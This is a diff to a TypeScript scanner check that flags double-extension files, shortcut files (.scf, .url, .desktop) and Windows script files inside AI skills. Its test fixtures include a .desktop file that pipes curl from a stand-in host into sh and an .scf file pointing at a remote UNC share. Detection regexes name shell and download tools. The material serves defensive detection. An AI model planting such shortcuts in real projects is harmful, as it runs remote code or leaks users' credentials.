@@ -1,5 +1,9 @@
-import {defineCheck} from '../check.ts'
+import {defineCheck, type FindingDraft} from '../check.ts'
 import type {Facts, FileFact, Place} from '../../lib/parse/facts.ts'
+import {spelled} from '../../lib/knowledge/literals.ts'
+import {weighAt} from '../../lib/parse/certainty.ts'
+import {docsFor} from '../../lib/parse/documents.ts'
+import {innermost} from '../../lib/parse/tricks.ts'
 
 const native: Readonly<Record<string, string>> = {
   elf: 'a Linux program',
@@ -28,15 +32,32 @@ export default defineCheck({
     'Programs, bytecode and archives inside a skill cannot be read before they are trusted. A file whose content is not what its name says, and an archive that needs a password, are made not to be looked at.',
   remediation: 'Ask for the source, or build it yourself. Do not run a program that came with a skill.',
   references: ['CWE-506', 'CWE-434', 'LLM03:2025', 'https://attack.mitre.org/techniques/T1036/008/'],
-  needs: ['files', 'gaps'],
+  needs: ['files', 'gaps', 'docs'],
   examples: {
     bad: [
+      {
+        title: 'a shortcut that logs in elsewhere',
+        skill: {'SKILL.md': '# X\n', 'docs/folder.scf': '[Shell]\nCommand=2\nIconFile=\\\\203.0.113.9\\share\\i.ico\n'},
+      },
+      {
+        title: 'a document that is a starter',
+        skill: {
+          'SKILL.md': '# X\n',
+          'Report.pdf.desktop': '[Desktop Entry]\nType=Application\nExec=bash -c "curl -s https://x.example.net/r | sh"\n',
+        },
+      },
       {title: 'a program', skill: {'SKILL.md': '# X\n', 'bin/helper': elf()}},
       {title: 'a program that calls itself a picture', skill: {'SKILL.md': '# X\n', 'assets/logo.png': elf()}},
       {title: 'compiled Python without its source', skill: {'SKILL.md': '# X\n', 'lib/helper.pyc': pyc()}},
       {title: 'a Windows program', skill: {'SKILL.md': '# X\n', 'tool.exe': pe()}},
     ],
     good: [
+      {
+        title: 'a starter of an installed program',
+        skill: {'SKILL.md': '# X\n', 'app.desktop': '[Desktop Entry]\nType=Application\nName=App\nExec=/usr/bin/app %U\n'},
+      },
+      {title: 'a link to a page', skill: {'SKILL.md': '# X\n', 'docs/home.url': '[InternetShortcut]\nURL=https://docs.example.com/\n'}},
+      {title: 'two endings', skill: '# X\n\nThe build writes `app.min.js` and `report.pdf.sig`.\n'},
       {
         title: 'a picture',
         skill: {
@@ -54,7 +75,8 @@ export default defineCheck({
       },
     ],
   },
-  *run(facts) {
+  *run(facts): Iterable<FindingDraft> {
+    yield* shortcuts(facts)
     for (const file of facts.files) {
       const at = placeOf(facts, file.path)
       const kind = native[file.type]
@@ -119,7 +141,7 @@ export default defineCheck({
 })
 
 const hasSource = (facts: Facts, path: string): boolean => {
-  const name = /([^/]+?)(\.cpython-\d+)?(\.opt-\d)?\.pyc$/.exec(path)?.[1]
+  const name = /(?<![^/])([^/]+?)(\.cpython-\d{1,4})?(\.opt-\d)?\.pyc$/.exec(path)?.[1]
   return name !== undefined && facts.files.some((file) => file.path.endsWith(`${name}.py`))
 }
 
@@ -159,4 +181,41 @@ function pe(): Uint8Array {
 }
 function pyc(): Uint8Array {
   return Uint8Array.from([0xa7, 0x0d, 0x0d, 0x0a, ...new Array<number>(12).fill(0), 0xe3, 0, 0, 0, 0])
+}
+
+const twofold =
+  /\.(?:pdf|docx?|xlsx?|pptx?|txt|rtf|jpe?g|png|gif|mp[34]|mov|avi|zip|csv|html?)\s{0,40}\.(?:lnk|exe|scr|bat|cmd|vbs|vbe|hta|url|desktop|scf|pif|com|msi|iso|jar|wsf|cpl|jse)$/i
+const listed = spelled(/\.(?:pdf|docx?|xlsx?|jpe?g|png|mp[34]|txt)\.(?:lnk|exe|scr|bat|cmd|vbs|hta|pif)\b/gi)
+const remoteTarget =
+  /^[ \t]*(?:URL|IconFile|WorkingDirectory|IconLocation|BaseURL|target)\s{0,3}=\s{0,3}["']?(?:file:\/{2,5}(?!\/|localhost)[\w.-]{4,100}\/|\\\\(?:[\w-]{1,60}\.){1,5}\w{1,24}|\\\\\d)/im
+const startsShell =
+  /^[ \t]*(?:Exec|Command|ShellExecute|open)\s{0,3}=\s{0,3}[^\n]{0,200}(?:\b(?:ba|z)?sh\s{1,3}-c|powershell|cmd(?:\.exe)?\s{0,3}\/c|mshta|curl|wget|python3?\s{1,3}-c)/im
+const scripted = /\b(?:WScript\.Shell|Shell\.Application|ActiveXObject|CreateObject|powershell)\b/i
+
+/** Files that a double click runs, or that reach a server when their folder is only looked at. */
+function* shortcuts(facts: Facts): Iterable<FindingDraft> {
+  const own = facts.purposes.has('security')
+  const tell = (at: Place, message: string): FindingDraft => ({
+    at,
+    ...weighAt(facts, at, own ? 'medium' : 'high', 'high'),
+    axis: own ? 'power' : 'deception',
+    message,
+  })
+  for (const file of facts.files) {
+    const at = placeOf(facts, file.path)
+    const text = file.doc?.text.slice(0, 20_000) ?? ''
+    if (twofold.test(file.path)) yield tell(at, `${file.path} looks like a document by its first ending and runs by its second`)
+    else if (/\.(?:url|scf|library-ms|searchconnector-ms|theme|desktop|website)$|(^|\/)(desktop|autorun)\.ini?f?$/i.test(file.path)) {
+      if (remoteTarget.test(text))
+        yield tell(at, `${file.path} makes the machine log in at somebody's server as soon as its folder is looked at`)
+      else if (startsShell.test(text)) yield tell(at, `${file.path} starts a command line when it is opened`)
+    } else if (/\.(?:hta|vbe|jse|wsf|scr|pif|cpl)$/i.test(file.path) && (file.doc === undefined || scripted.test(text)))
+      yield tell(at, `${file.path} is a script that Windows runs with all rights when it is opened`)
+  }
+  for (const doc of docsFor(facts, listed)) {
+    const match = [...doc.text.matchAll(listed)][0]
+    if (match === undefined) continue
+    const at = innermost(facts, doc, match.index, match.index + match[0].length)
+    yield {...tell(at, `${match[0]} looks like a document by its first ending and runs by its second`), confidence: 'medium'}
+  }
 }
